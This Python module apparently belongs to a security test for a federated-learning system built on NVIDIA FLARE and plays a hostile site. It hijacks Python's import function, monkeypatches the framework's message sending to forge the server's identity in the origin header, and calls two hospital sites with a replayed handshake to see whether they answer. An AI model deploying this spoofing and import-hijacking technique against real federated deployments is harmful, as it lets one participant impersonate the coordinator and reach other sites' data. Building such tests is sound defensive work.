"""A hostile site: on the PYTHONPATH of a site's processes, this module poses as the server to other sites of a job.

The site has a valid kit, so everything up to the method of a site lets its calls through. It makes every call under its
own name, and again with the server's name in the header from which FLARE reads the caller.
"""

from __future__ import annotations

import builtins
import json
import os
import sys
import threading
import time
from pathlib import Path
from typing import Any

forged: list[str] = []
"""The server's address in the job, to write into outgoing messages; empty: none is forged."""


def attack(proxies: dict[str, Any], context: Any, job: str) -> None:
    from nvflare.collab.api.context import set_call_context

    set_call_context(context)
    out = Path(os.environ["HOSTILE_OUT"])
    handshake = Path(os.environ["HOSTILE_HANDSHAKE"]).read_bytes()
    outcomes: list[list[str]] = []
    for victim in ("hospital_a", "hospital_b"):
        for forge in (False, True):
            forged[:] = [f"server.{job}"] if forge else []
            try:
                said = proxies[victim](timeout=4.0).ask(ticket="evil", raw=handshake, wait=2.0)
                outcomes.append([victim, str(forge), f"answered: {said}"])
            except Exception as error:
                outcomes.append([victim, str(forge), f"{type(error).__name__}: {error}"])
            forged.clear()
    out.with_suffix(".part").write_text(json.dumps(outcomes))
    out.with_suffix(".part").rename(out)


def arm(flare: Any) -> None:
    """Let the site attack when a job begins."""
    from nvflare.collab import collab
    from nvflare.collab.api.context import get_call_context
    from nvflare.fuel.f3.cellnet.core_cell import CoreCell
    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey

    first, send = flare.SiteJob.begin, CoreCell._send_to_endpoint

    def lie(self: Any, endpoint: Any, message: Any) -> Any:
        if forged and str(message.get_header(MessageHeaderKey.DESTINATION)).startswith("hospital_"):
            message.set_header(MessageHeaderKey.ORIGIN, forged[0])
        return send(self, endpoint, message)

    CoreCell._send_to_endpoint = lie

    def begin(self: Any) -> None:
        first(self)
        proxies = {proxy.name: proxy for proxy in collab.clients}
        job = str(collab.fl_ctx.get_job_id())
        context = get_call_context()

        def later() -> None:
            time.sleep(2.0)  # until the other sites' sides of the job have started
            attack(proxies, context, job)

        threading.Thread(target=later, daemon=True).start()

    begin._collab_init = True  # type: ignore[attr-defined]
    for name, value in vars(first).items():
        setattr(begin, name, value)
    flare.SiteJob.begin = begin


if "HOSTILE_OUT" in os.environ:
    plain = builtins.__import__

    def watch(name: str, *rest: Any, **more: Any) -> Any:
        found = plain(name, *rest, **more)
        flare = sys.modules.get("weft.sites.flare")
        if flare is not None and hasattr(flare, "SiteJob") and not hasattr(flare, "armed"):
            flare.armed = True
            arm(flare)
        return found

    builtins.__import__ = watch
